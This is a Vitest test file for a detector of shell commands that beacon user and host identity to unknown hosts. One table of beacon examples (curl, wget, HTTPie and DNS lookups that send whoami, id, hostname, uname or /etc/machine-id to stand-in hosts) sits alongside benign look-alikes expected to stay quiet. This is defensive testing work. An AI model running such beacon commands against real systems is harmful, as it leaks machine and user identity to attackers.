// Who and where this machine is, sent out: the beacon a dropper sends home first. Written after
// host-identity-sent (and identity substitutions as DNS label data), with other clients, options, programs and
// places in the request than the rule's examples; and the requests that fill in a platform, a local host or an
// allowlisted one, quiet.
import { describe, expect, it } from 'vitest';
import { aloneOf, bash, reportedAt, rules } from './replay.js';

describe('the user and host identity in a request to an unknown host', () => {
  it.each([
    ['form fields to an address and port', 'curl -sk https://198.51.100.7:8443/c -d u=$(whoami) -d h=$(hostname)', 'host-identity-sent', 'medium'],
    ["wget's post data", 'wget --post-data="who=$(id)" https://t.example.org/x -O /dev/null', 'host-identity-sent', 'medium'],
    ["the machine's id in the path", 'curl "https://hooks.example.io/$(cat /etc/machine-id)"', 'host-identity-sent', 'medium'],
    ["HTTPie with the node name", 'http POST https://t.example.org/r host=$(uname -n)', 'host-identity-sent', 'medium'],
    ['the kernel string as the user agent', 'curl -A "$(uname -a)" https://t.example.org/', 'host-identity-sent', 'medium'],
    ["the host's addresses", "curl https://t.example.org/ip?a=$(hostname -I | tr ' ' ,)", 'host-identity-sent', 'medium'],
    ['backticks', 'curl -s https://t.example.org/`logname`', 'host-identity-sent', 'medium'],
    ['the user as a DNS label', 'host $(id -un).t.example.org', 'dns-exfiltration', 'high'],
    ['a login name as the user, and the host in the query', 'curl -u $(whoami):$T "https://t.example.org/r?h=$(hostname)"', 'host-identity-sent', 'medium'],
  ])('%s: %s', reportedAt);

  it.each([
    ['a download picked by platform', 'curl -fsSL "https://dl.example.com/tool_$(uname -s | tr A-Z a-z)_$(uname -m).tgz" -o t.tgz'],
    ['a local service', 'curl -s "http://localhost:9200/_cat/nodes?h=$(hostname)"'],
    ['an allowlisted registry', 'curl -s "https://registry.npmjs.org/-/user/org.couchdb.user:$(whoami)"'],
    ['this machine by its name', 'curl -s http://$(hostname -f):8080/metrics'],
    ['a container run as the user', 'docker run --rm -u $(id -u):$(id -g) -v $PWD:/w node:20 npm test'],
    ["a record's id from a file", 'curl -s "https://api.example.com/v1/jobs/$(jq -r .id job.json)"'],
    ['a name from the config looked up', 'nslookup $(jq -r .host cfg.json).internal.example.com'],
    // Written after the login-name exception: the user to log in as is no beacon.
    ['the login name with a token, to a repository manager', 'curl -s -u $(whoami):$ART_TOKEN https://artifactory.corp.example.com/api/storage/libs'],
    ["curl's --user, quoted", 'curl -s --user "$(whoami):${TOKEN}" -T build.tgz https://nexus.corp.example.com/repository/raw/'],
    ["wget's --user=", 'wget --user=$(whoami) --ask-password https://files.corp.example.com/x.tgz'],
  ])('quiet: %s', (_name, command) => {
    expect(rules(aloneOf(bash(command))).filter((r) => r === 'host-identity-sent' || r === 'dns-exfiltration')).toEqual([]);
  });
});
